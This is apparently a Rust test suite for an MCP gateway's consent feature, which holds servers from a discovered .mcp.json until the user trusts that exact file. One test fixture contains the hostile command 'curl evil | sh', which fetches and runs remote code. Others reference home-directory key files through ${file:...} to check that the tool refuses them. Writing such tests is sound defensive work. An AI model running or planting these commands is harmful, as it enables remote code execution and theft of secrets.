//! A discovered configuration, and the consent to run it (SEC-1).

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::path::PathBuf;
use std::process::Stdio;

use serde_json::{Value, json};

use crate::serve_http::demo;
use crate::support::gateway::{Serving, tools_at};
use crate::support::processes::{Process, children, marker, wait_until_gone};
use crate::support::program::{Folder, Run};

/// A server that creates a file when it is started.
fn marking(folder: &Folder) -> (Value, PathBuf) {
    let mark = folder.project().join("started");
    let script = format!("touch {}", mark.display());
    (json!({ "command": "sh", "args": ["-c", script] }), mark)
}

fn write(folder: &Folder, name: &str, servers: &Value) {
    fs::write(folder.project().join(name), json!({ "mcpServers": servers }).to_string()).unwrap();
}

fn bare(folder: &Folder, arguments: &[&str]) -> Run {
    folder.finish(&mut folder.bare_command(arguments))
}

/// Regression: a cloned repository's `.mcp.json` was started by `tools`, `status` and `call`.
#[test]
fn discovered_file_starts_nothing() {
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "evil": server }));
    for arguments in [
        &["tools"][..],
        &["tools", "--all"],
        &["status"],
        &["status", "--watch"],
        &["resources"],
        &["prompts"],
        &["call", "evil_x"],
        &["prompt", "evil_x"],
        &["read", "x://y"],
        &["complete", "evil_x", "a=b"],
        &["explain", "evil_x"],
        &["tools", "--server", "evil"],
    ] {
        let run = bare(&folder, arguments);
        assert!(!mark.exists(), "{arguments:?} started it: {run}");
        assert_ne!(run.code, 0, "{arguments:?}: {run}");
        let said = "[folder]/project/.mcp.json was found here and is not trusted yet";
        assert!(run.messages.contains(said), "{arguments:?}: {run}");
        let advice = "trunkline trust [folder]/project/.mcp.json";
        assert!(run.messages.contains(advice), "{arguments:?}: {run}");
    }
    let call = bare(&folder, &["call", "evil_x"]);
    assert_eq!(call.code, 5, "{call}");
    // Seen: it was said twice.
    assert_eq!(call.messages.matches("not trusted yet").count(), 1, "{call}");
}

/// Seen: a name without a prefix was an unknown one (4), and the reason was said twice.
#[test]
fn items_and_lists_of_an_untrusted_server_are_unavailable_and_it_is_said_once() {
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    write(&folder, "trunkline.json", &json!({ "a": server }));
    for (arguments, code) in [
        (&["call", "shout", "text=a"][..], 5),
        (&["call", "a", "shout"], 5),
        (&["prompt", "greet"], 5),
        (&["tool", "shout"], 5),
        (&["explain", "shout"], 5),
        (&["explain", "a_shout"], 5),
        (&["explain", "x://y"], 5),
        (&["explain", "shout", "--server", "a"], 5),
        (&["skill", "a"], 5),
        (&["tools", "a"], 5),
        (&["prompts", "--server", "a"], 5),
        (&["search", "x", "--server", "a"], 5),
        (&["types", "--server", "a"], 5),
        (&["tools"], 1),
    ] {
        let run = bare(&folder, arguments);
        assert_eq!(run.code, code, "{arguments:?}: {run}");
        assert_eq!(run.messages.matches("not trusted yet").count(), 1, "{arguments:?}: {run}");
    }
    assert!(!mark.exists());
}

/// Seen: `add` and `remove` took away the trust in a file that only Trunkline had changed.
#[test]
fn a_change_on_the_command_line_keeps_the_trust_in_a_file() {
    let folder = Folder::new();
    let (server, _) = marking(&folder);
    write(&folder, "trunkline.json", &json!({ "a": server }));
    let is_trusted = || bare(&folder, &["config", "--format", "json"]).json()["hold"].is_null();
    // What was not trusted is not trusted by a change.
    assert_eq!(bare(&folder, &["add", "b", "--", "true"]).code, 0);
    assert!(!is_trusted());
    assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
    let run = bare(&folder, &["add", "c", "--", "true"]);
    assert!(run.messages.contains("was trusted and still is"), "{run}");
    assert!(is_trusted(), "{run}");
    assert_eq!(bare(&folder, &["remove", "c"]).code, 0);
    assert!(is_trusted());
    assert_eq!(bare(&folder, &["add", "c", "--dry-run", "--", "true"]).code, 0);
    assert!(is_trusted());
    let list = bare(&folder, &["trust", "--list", "--format", "json"]).json();
    assert!(!list.to_string().contains("`c`") && list.to_string().contains("`b`"), "{list}");
    // The change of another program is not trusted with the next one of ours.
    write(&folder, "trunkline.json", &json!({ "a": { "command": "false" } }));
    let run = bare(&folder, &["add", "d", "--", "true"]);
    assert!(run.messages.contains("`trunkline trust` lets"), "{run}");
    assert!(!is_trusted());
    // Nor is anything if the store cannot be read.
    assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
    let store = folder.project().join("../home/.local/state/trunkline/trust.json");
    fs::write(&store, "{}").unwrap();
    assert_eq!(bare(&folder, &["add", "e", "--", "true"]).code, 0);
    assert!(!is_trusted());
    assert_eq!(fs::read_to_string(&store).unwrap(), "{}");
}

/// Regression: an unreadable setting hid the servers from the review, and a layer that replaced the
/// setting ran them.
#[test]
fn a_file_whose_settings_hide_servers_is_not_trusted() {
    for setting in [json!({ "restart": "bogus" }), json!({ "inheritEnv": 5 })] {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        let mut file = setting.clone();
        file["mcpServers"] = json!({ "evil": server, "own": { "command": "true", "restart": "never", "inheritEnv": [] } });
        fs::write(folder.project().join(".mcp.json"), file.to_string()).unwrap();
        let trust = bare(&folder, &["trust", "--yes"]);
        assert_ne!(trust.code, 0, "{trust}");
        assert!(trust.messages.contains("has settings that cannot be read: `"), "{trust}");
        let mut command = folder.bare_command(&["status"]);
        let over = r#"{"restart":"never","inheritEnv":[]}"#;
        let run = folder.finish(command.env("TRUNKLINE_CONFIG_JSON", over));
        assert!(!mark.exists(), "{setting}: {run}");
    }
}

#[test]
fn programs_learn_why_servers_are_missing() {
    let folder = Folder::new();
    let (server, _) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "evil": server }));
    let tools = bare(&folder, &["tools", "--format", "json"]).json();
    assert_eq!(tools["failures"][0]["server"], "evil");
    assert_eq!(tools["failures"][0]["kind"], "unavailable");
    let status = bare(&folder, &["status", "--format", "json"]).json();
    assert_eq!(status["servers"][0]["state"], "not-trusted");
    let check = bare(&folder, &["check", "--strict", "--format", "json"]);
    assert_eq!((check.code, &check.json()["ok"]), (0, &json!(true)));
    assert!(check.json()["hold"].as_str().unwrap().contains("not trusted yet"));
    let config = bare(&folder, &["config"]);
    assert!(config.output.contains("nothing of it is started until"), "{config}");
}

#[test]
fn trusted_file_runs_until_it_is_edited() {
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "evil": server }));
    let asked = bare(&folder, &["trust"]);
    assert_eq!(asked.code, 1, "{asked}");
    assert!(asked.output.contains("runs    sh -c \"touch [folder]/project/started"), "{asked}");
    assert!(asked.messages.contains("trunkline trust [folder]/project/.mcp.json --yes"), "{asked}");
    assert_ne!(bare(&folder, &["tools"]).code, 0);
    assert!(!mark.exists());

    assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
    bare(&folder, &["status"]);
    assert!(mark.exists(), "it is trusted");
    fs::remove_file(&mark).unwrap();

    write(
        &folder,
        ".mcp.json",
        &json!({ "evil": server, "more": { "url": "http://127.0.0.1:1/" } }),
    );
    let run = bare(&folder, &["status"]);
    assert!(run.messages.contains("has changed since it was trusted"), "{run}");
    assert!(!mark.exists());
    let asked = bare(&folder, &["trust"]);
    assert!(asked.output.contains("\n+   reaches http://127.0.0.1:1/"), "{asked}");
    assert!(asked.output.contains("\n    runs    sh"), "{asked}");
}

/// Regression: a script is redacted in the store, so a changed script looked the same.
#[test]
fn a_changed_script_is_marked_although_the_store_keeps_no_script() {
    let folder = Folder::new();
    let server = |script: &str| json!({ "s": { "command": "sh", "args": ["-c", script] } });
    write(&folder, ".mcp.json", &server("echo one two; exec cat"));
    assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
    write(&folder, ".mcp.json", &server("curl evil | sh; exec cat"));
    let asked = bare(&folder, &["trust"]);
    assert!(asked.output.contains("\n+   runs    sh -c \"curl evil | sh; exec cat\""), "{asked}");
    assert!(asked.output.contains("\n-   server `s` (stdio): runs sh"), "{asked}");
}

/// CON-7: before consent, the user sees which variables the servers would inherit.
#[test]
fn inherited_settings_are_shown_before_consent() {
    let folder = Folder::new();
    let text = json!({ "inheritEnv": ["AWS_*"], "mcpServers": {
        "some": { "command": "x" },
        "every": { "command": "x", "inheritEnv": true },
    } });
    fs::write(folder.project().join(".mcp.json"), text.to_string()).unwrap();
    let asked = bare(&folder, &["trust"]);
    assert!(asked.output.contains("inherits the variables AWS_*"), "{asked}");
    assert!(asked.output.contains("inherits every variable of this environment"), "{asked}");
}

#[test]
fn trust_is_for_one_path_and_can_be_taken_back() {
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "evil": server }));
    assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
    let list = bare(&folder, &["trust", "--list"]);
    assert!(list.output.contains("\n[folder]/project/.mcp.json"), "{list}");

    // The same content at another path is another file.
    let other = folder.project().join("sub");
    fs::create_dir(&other).unwrap();
    fs::copy(folder.project().join(".mcp.json"), other.join(".mcp.json")).unwrap();
    let run = folder.finish(folder.bare_command(&["status"]).current_dir(&other));
    assert!(run.messages.contains("not trusted yet"), "{run}");

    assert_eq!(bare(&folder, &["trust", "--revoke"]).code, 0);
    assert_eq!(bare(&folder, &["trust", "--list"]).output, "No file is trusted.\n");
    bare(&folder, &["status"]);
    assert!(!mark.exists());
    assert_eq!(bare(&folder, &["trust", "--revoke"]).code, 1);
}

#[test]
fn a_file_that_was_named_needs_no_trust() {
    for variable in [None, Some("TRUNKLINE_CONFIG"), Some("MCP_CONFIG_PATH")] {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        write(&folder, ".mcp.json", &json!({ "evil": server }));
        match variable {
            None => drop(bare(&folder, &["status", "--config", ".mcp.json"])),
            Some(variable) => {
                folder.finish(folder.bare_command(&["status"]).env(variable, ".mcp.json"));
            }
        }
        assert!(mark.exists(), "{variable:?}");
    }
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    let own = folder.project().join("../home/.config/trunkline");
    fs::create_dir_all(&own).unwrap();
    fs::write(own.join("mcp.json"), json!({ "mcpServers": { "s": server } }).to_string()).unwrap();
    bare(&folder, &["status"]);
    assert!(mark.exists(), "the user's own file");
}

/// A rule of an untrusted file could widen the access that a variable allows.
#[test]
fn nothing_of_an_untrusted_file_counts_for_other_layers() {
    let folder = Folder::new();
    let text = json!({ "access": "read-only", "mcpServers": { "held": { "command": "x" } } });
    fs::write(folder.project().join(".mcp.json"), text.to_string()).unwrap();
    let words = demo("words", &marker());
    let inline = json!({ "mcpServers": { "words": words, "held": { "enabled": true } } });
    let mut command = folder.bare_command(&["tools"]);
    let run = folder.finish(command.env("TRUNKLINE_CONFIG_JSON", inline.to_string()));
    assert!(run.output.contains("words_shout"), "{run}");
    assert!(run.output.contains("words_remember"), "its access rule does not count: {run}");
    assert!(run.messages.contains("its 1 server (held) is not started"), "{run}");
}

#[test]
fn a_store_that_cannot_be_understood_trusts_nothing_and_is_kept() {
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "evil": server }));
    assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
    let store = folder.project().join("../home/.local/state/trunkline/trust.json");
    fs::write(&store, "{ \"version\": 1, ").unwrap();
    let run = bare(&folder, &["status"]);
    assert!(run.messages.contains("trust.json is no trust store"), "{run}");
    assert!(!mark.exists());
    let run = bare(&folder, &["trust", "--yes"]);
    assert_eq!(run.code, 1, "{run}");
    assert_eq!(fs::read_to_string(&store).unwrap(), "{ \"version\": 1, ");
}

/// An edit is not applied until it is trusted, and revoking trust stops the servers.
#[test]
fn gateway_applies_trust_changes() {
    let folder = Folder::new();
    let marker = marker();
    let words = demo("words", &marker);
    write(&folder, ".mcp.json", &json!({ "words": words }));
    let serving = Serving::start(&folder, &[]);
    assert!(tools_at(&folder, serving.url(), None).contains(&"words_shout".to_owned()));
    let before = children(serving.process_id());

    let (server, mark) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "words": words, "evil": server }));
    serving.wait_for("has changed since it was trusted");
    serving.wait_for("what was trusted before stays in use until then");
    assert!(tools_at(&folder, serving.url(), None).contains(&"words_shout".to_owned()));
    assert!(!mark.exists());

    folder.trust();
    serving.wait_for("what is trusted changed: added evil; 1 server goes on");
    assert!(before.iter().all(Process::runs), "the other server was not touched");

    assert_eq!(bare(&folder, &["trust", "--revoke"]).code, 0);
    serving.wait_for("what is trusted changed: removed evil, words");
    wait_until_gone(&marker);
    assert!(tools_at(&folder, serving.url(), None).is_empty());
}

/// Regression: servers of a revoked file kept running while another file was found in its place.
#[test]
fn revoked_trust_stops_servers_while_another_file_is_found() {
    let folder = Folder::new();
    let marker = marker();
    write(&folder, ".mcp.json", &json!({ "words": demo("words", &marker) }));
    let serving = Serving::start(&folder, &[]);
    assert!(tools_at(&folder, serving.url(), None).contains(&"words_shout".to_owned()));
    write(&folder, "trunkline.json", &json!({ "evil": marking(&folder).0 }));
    serving.wait_for("what was trusted before stays in use until then");
    assert_eq!(bare(&folder, &["trust", "--revoke", ".mcp.json"]).code, 0);
    wait_until_gone(&marker);
    assert!(tools_at(&folder, serving.url(), None).is_empty());
}

/// Regression: an unreadable file was reported as trusted, with 0 servers.
#[test]
fn a_file_that_cannot_be_read_is_not_trusted() {
    let folder = Folder::new();
    fs::write(folder.project().join(".mcp.json"), "{ \"mcpServers\": ").unwrap();
    let run = bare(&folder, &["trust", "--yes"]);
    assert_eq!(run.code, 1, "{run}");
    assert!(run.messages.contains("has errors and no server that can be used"), "{run}");
    assert_eq!(bare(&folder, &["trust", "--list"]).output, "No file is trusted.\n");
}

#[test]
fn clients_of_a_gateway_learn_why_servers_are_missing() {
    let folder = Folder::new();
    let (server, mark) = marking(&folder);
    write(&folder, ".mcp.json", &json!({ "evil": server }));
    let request = json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": { "name": "t", "version": "1" } } });
    let list = json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/list" });
    let mut command = folder.bare_command(&["serve", "--stdio"]);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
    let mut child = command.spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    write!(input, "{request}\n{list}\n").unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let listed: Value = loop {
        let line: Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
        if line["id"] == 2 {
            break line;
        }
    };
    drop(input);
    child.wait().unwrap();
    let missing = &listed["result"]["_meta"]["io.trunkline/unavailable"][0];
    assert_eq!((&missing["server"], &missing["state"]), (&json!("evil"), &json!("not-trusted")));
    assert!(!mark.exists());
}

#[cfg(unix)]
mod permissions {
    use std::os::unix::fs::{PermissionsExt as _, chown, symlink};

    use super::*;

    fn chmod(path: &std::path::Path, mode: u32) {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }

    /// Regression: another user's world-writable file in a parent directory was run as root.
    #[test]
    fn files_that_others_can_change_are_refused_also_when_trusted() {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        write(&folder, ".mcp.json", &json!({ "evil": server }));
        assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
        let file = folder.project().join(".mcp.json");
        for (path, mode, back) in [
            (file.clone(), 0o666, 0o644),
            (folder.project(), 0o777, 0o755),
            (folder.project().join(".."), 0o777, 0o755),
        ] {
            chmod(&path, mode);
            let run = bare(&folder, &["status"]);
            assert!(run.messages.contains("error[unsafe-file]"), "{path:?}: {run}");
            assert!(run.messages.contains("everybody can write"), "{path:?}: {run}");
            let trusted = bare(&folder, &["trust", "--yes"]);
            assert_eq!(trusted.code, 1, "{path:?}");
            assert!(trusted.messages.contains("everybody can write"), "{path:?}: {trusted}");
            assert!(!mark.exists(), "{path:?}");
            chmod(&path, back);
        }
        // In directories like `/tmp`, every user can write, but not replace files of others.
        chmod(&folder.project(), 0o1777);
        bare(&folder, &["status"]);
        assert!(mark.exists());
    }

    /// Regression: only a file given with `--config` was warned about, and not by `serve`.
    #[test]
    fn named_files_that_others_can_change_are_warned_about() {
        let folder = Folder::new().file("named.json", r#"{ "mcpServers": {} }"#);
        let own = folder.project().join("../home/.config/trunkline/mcp.json");
        fs::create_dir_all(own.parent().unwrap()).unwrap();
        fs::write(&own, r#"{ "mcpServers": {} }"#).unwrap();
        chmod(&own, 0o666);
        chmod(&folder.project().join("named.json"), 0o666);
        let named = "everybody can write [folder]/project/named.json, and with it what is run here";
        let config = bare(&folder, &["status", "--config", "named.json"]);
        assert!(config.messages.contains(named), "{config}");
        for variable in ["TRUNKLINE_CONFIG", "MCP_CONFIG_PATH"] {
            let run = folder.finish(folder.bare_command(&["status"]).env(variable, "named.json"));
            assert!(run.messages.contains(named), "{variable}: {run}");
        }
        let run = bare(&folder, &["status"]);
        assert!(run.messages.contains("/mcp.json, and with it what is run here"), "{run}");
        for (arguments, file) in
            [(&["--config", "named.json"][..], "named.json"), (&[], "mcp.json")]
        {
            let serving = Serving::start(&folder, arguments);
            serving.wait_for(&format!("/{file}, and with it what is run here"));
        }
        chmod(&own, 0o600);
        let run = bare(&folder, &["status"]);
        assert!(!run.messages.contains("everybody can write"), "{run}");
        // A file can be changed by replacing it.
        let above = own.parent().unwrap();
        chmod(above, 0o777);
        let run = bare(&folder, &["status"]);
        assert!(run.messages.contains("/trunkline, and with it what is run here"), "{run}");
        chmod(above, 0o755);
    }

    /// Regression: with a umask of 002 the directories of the store were group-writable, and the
    /// next command refused the store.
    #[test]
    fn the_folders_of_the_store_are_private_whatever_the_umask() {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        write(&folder, ".mcp.json", &json!({ "s": server }));
        let trust = folder.bare_command(&["trust", "--yes"]);
        let mut open = std::process::Command::new("sh");
        open.args(["-c", "umask 000; exec \"$0\" trust --yes"]).arg(trust.get_program());
        open.current_dir(folder.project());
        for (name, value) in trust.get_envs() {
            match value {
                Some(value) => open.env(name, value),
                None => open.env_remove(name),
            };
        }
        let run = folder.finish(&mut open);
        assert_eq!(run.code, 0, "{run}");
        let state = folder.project().join("../home/.local/state");
        let mode = fs::metadata(&state).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o700);
        bare(&folder, &["status"]);
        assert!(mark.exists(), "it is trusted");
    }

    /// Regression: consent to one file outside allowed all files, through a link inside the
    /// directory.
    #[test]
    fn consent_to_a_file_outside_is_for_that_file() {
        let folder = Folder::new();
        let home = folder.project().join("../home");
        fs::create_dir_all(&home).unwrap();
        fs::write(home.join("shown.txt"), "shown").unwrap();
        fs::write(home.join("hidden.txt"), "hidden").unwrap();
        fs::write(folder.project().join("version.txt"), "1").unwrap();
        let output = folder.project().join("output");
        let script = format!("echo \"$K-$L\" > {}", output.display());
        let env = json!({ "K": "${file:~/shown.txt}", "L": "${file:version.txt}" });
        let server = json!({ "command": "sh", "args": ["-c", script], "env": env });
        write(&folder, ".mcp.json", &json!({ "s": server }));
        assert_eq!(bare(&folder, &["trust", "--yes", "--outside-files"]).code, 0);
        let run = bare(&folder, &["status"]);
        assert_eq!(fs::read_to_string(&output).unwrap_or_default(), "shown-1\n", "{run}");

        fs::remove_file(&output).unwrap();
        fs::remove_file(folder.project().join("version.txt")).unwrap();
        symlink(home.join("hidden.txt"), folder.project().join("version.txt")).unwrap();
        let run = bare(&folder, &["status"]);
        assert!(!output.exists(), "{run}");
        assert!(run.messages.contains("outside") || run.output.contains("outside"), "{run}");
    }

    /// Regression: consent to a directory included every file in it, and a missing path inside the
    /// project counted as shown, wherever a link led later.
    #[test]
    fn consent_is_not_for_files_that_were_not_there() {
        let folder = Folder::new().file("note.txt", "note");
        let keys = folder.project().join("../home/keys");
        fs::create_dir_all(&keys).unwrap();
        fs::write(keys.join("id"), "secret").unwrap();
        let output = folder.project().join("output");
        let reading = |reference: &str| {
            let script = format!("echo \"$K\" > {}", output.display());
            json!({ "command": "sh", "args": ["-c", script], "env": { "K": reference } })
        };
        let other = json!({ "command": "true", "env": { "D": "${file:~/keys}" } });
        let servers = json!({ "a": other, "b": reading("${file:note.txt}") });
        write(&folder, ".mcp.json", &servers);
        let shown = bare(&folder, &["trust"]);
        assert!(shown.output.contains("(a folder outside of its own"), "{shown}");
        assert_eq!(bare(&folder, &["trust", "--yes", "--outside-files"]).code, 0);
        fs::remove_file(folder.project().join("note.txt")).unwrap();
        symlink(keys.join("id"), folder.project().join("note.txt")).unwrap();
        let run = bare(&folder, &["status"]);
        assert!(!output.exists(), "{run}");

        for (reference, link) in [("sub/id", "sub"), ("sub/deep/../id", "sub"), ("new", "new")] {
            write(
                &folder,
                ".mcp.json",
                &json!({ "b": reading(&format!("${{file:{reference}}}")) }),
            );
            assert_eq!(bare(&folder, &["trust", "--yes", "--outside-files"]).code, 0);
            let target = if link == "new" { keys.join("id") } else { keys.clone() };
            symlink(target, folder.project().join(link)).unwrap();
            fs::create_dir_all(keys.join("deep")).unwrap();
            let run = bare(&folder, &["status"]);
            assert!(!output.exists(), "{reference}: {run}");
            fs::remove_file(folder.project().join(link)).unwrap();
        }
    }

    #[test]
    fn files_of_others_further_up_are_passed_over() {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        write(&folder, ".mcp.json", &json!({ "evil": server }));
        let file = folder.project().join(".mcp.json");
        // Only root can change the owner of a file.
        if chown(&file, Some(12_345), None).is_err() {
            return;
        }
        let sub = folder.project().join("sub");
        fs::create_dir(&sub).unwrap();
        let run = folder.finish(folder.bare_command(&["status"]).current_dir(&sub));
        assert!(run.messages.contains("warning[unsafe-file]"), "{run}");
        assert!(run.messages.contains("belongs to another user (uid 12345)"), "{run}");
        assert!(!mark.exists());
    }

    #[test]
    fn symlink_is_as_safe_as_its_path() {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        let open = folder.project().join("../open");
        fs::create_dir(&open).unwrap();
        let text = json!({ "mcpServers": { "evil": server } }).to_string();
        fs::write(open.join("real.json"), text).unwrap();
        symlink("../open/real.json", folder.project().join(".mcp.json")).unwrap();
        assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
        chmod(&open, 0o777);
        let run = bare(&folder, &["status"]);
        assert!(run.messages.contains("everybody can write [folder]/open"), "{run}");
        assert!(!mark.exists());
        chmod(&open, 0o755);
        bare(&folder, &["status"]);
        assert!(mark.exists());
    }

    #[test]
    fn a_store_that_others_can_change_trusts_nothing() {
        let folder = Folder::new();
        let (server, mark) = marking(&folder);
        write(&folder, ".mcp.json", &json!({ "evil": server }));
        assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
        let store = folder.project().join("../home/.local/state/trunkline/trust.json");
        assert_eq!(fs::metadata(&store).unwrap().permissions().mode() & 0o777, 0o600);
        chmod(&store, 0o666);
        let run = bare(&folder, &["status"]);
        assert!(run.messages.contains("everybody can write"), "{run}");
        assert!(!mark.exists());
    }

    /// Regression: `${file:~/.ssh/…}` of a cloned repository was sent to a server.
    #[test]
    fn files_outside_of_the_folder_are_trusted_separately() {
        let folder = Folder::new().file("inside.txt", "a").file("secrets/deep.txt", "b");
        let outside = folder.project().join("../home/key");
        fs::create_dir_all(outside.parent().unwrap()).unwrap();
        fs::write(&outside, "hunter2").unwrap();
        symlink(&outside, folder.project().join("link.txt")).unwrap();
        for (reference, is_outside) in [
            ("inside.txt", false),
            ("secrets/deep.txt", false),
            ("~/key", true),
            ("../home/key", true),
            ("link.txt", true),
        ] {
            let (mut server, mark) = marking(&folder);
            server["env"] = json!({ "K": format!("${{file:{reference}}}") });
            write(&folder, ".mcp.json", &json!({ "evil": server }));
            let asked = bare(&folder, &["trust"]);
            assert_eq!(asked.output.contains("(outside of its folder)"), is_outside, "{asked}");
            assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
            let run = bare(&folder, &["status"]);
            assert_eq!(mark.exists(), !is_outside, "{reference}: {run}");
            let said = run.output.contains("it is outside of the folder of its configuration");
            assert_eq!(said, is_outside, "{run}");
            assert_eq!(bare(&folder, &["trust", "--yes", "--outside-files"]).code, 0);
            bare(&folder, &["status"]);
            assert!(mark.exists(), "{reference}");
            fs::remove_file(&mark).unwrap();
        }
        let (mut server, mark) = marking(&folder);
        server["envFile"] = json!("../home/key");
        write(&folder, ".mcp.json", &json!({ "evil": server }));
        assert_eq!(bare(&folder, &["trust", "--yes"]).code, 0);
        bare(&folder, &["status"]);
        assert!(!mark.exists(), "an envFile as well");
    }
}
